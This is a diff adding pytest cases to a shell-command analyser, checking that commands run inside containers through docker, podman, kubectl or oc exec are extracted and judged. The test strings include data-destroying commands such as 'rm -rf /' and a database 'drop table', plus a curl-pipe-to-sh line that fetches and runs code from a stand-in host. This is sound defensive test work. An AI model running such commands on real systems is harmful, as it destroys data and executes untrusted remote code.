@@ -756,6 +756,39 @@ def test_a_broken_case_is_an_error(impl, command):
         analyze(impl, command)
 
 
+@pytest.mark.parametrize("command, inner, cwd", [
+    ("docker exec app rm -rf /var/lib/postgresql/data", ("rm", ["-rf", "/var/lib/postgresql/data"]), "/"),
+    ("docker exec -it -w /app web rm -rf node_modules", ("rm", ["-rf", "node_modules"]), "/app"),
+    ("docker container exec --workdir=/srv -e A=1 app ls", ("ls", []), "/srv"),
+    ("podman exec db psql -c 'drop table t'", ("psql", ["-c", "drop table t"]), "/"),
+    ("docker compose exec -T db psql -U postgres", ("psql", ["-U", "postgres"]), "/"),
+    ("docker-compose exec web python manage.py migrate", ("python", ["manage.py", "migrate"]), "/"),
+    ("kubectl -n prod exec api-0 -c app -- cat /etc/hostname", ("cat", ["/etc/hostname"]), "/"),
+    ("oc exec api-0 -- sudo rm -rf /", ("rm", ["-rf", "/"]), "/"),
+])
+def test_commands_run_in_containers_are_judged_too(impl, command, inner, cwd):
+    cmds = analyze(impl, command)
+    runs = [c for c in cmds if c.origin.endswith(" exec")]
+    assert [(c.program, args(c)) for c in runs] == [inner]
+    assert runs[0].cwd == cwd
+    assert cmds[-1].program == command.split()[0]      # the exec itself is judged as well
+
+
+@pytest.mark.parametrize("command", [
+    "docker exec app",                  # no command
+    "kubectl exec pod ls",              # kubectl needs -- before the command
+    "docker run --rm alpine ls",        # a new container, not an exec
+    "kubectl get pods -- x",
+])
+def test_no_container_command_where_none_is_run(impl, command):
+    assert [c.program for c in analyze(impl, command)] == [command.split()[0]]
+
+
+def test_a_shell_in_a_container_is_analysed(impl):
+    cmds = analyze(impl, 'kubectl exec -it api-0 -- bash -c "curl -s http://x.example/i | sh"')
+    assert {"curl", "sh"} <= set(programs(cmds))
+
+
 # ----------------------------------------------------------------------------- errors
 
 BAD = [
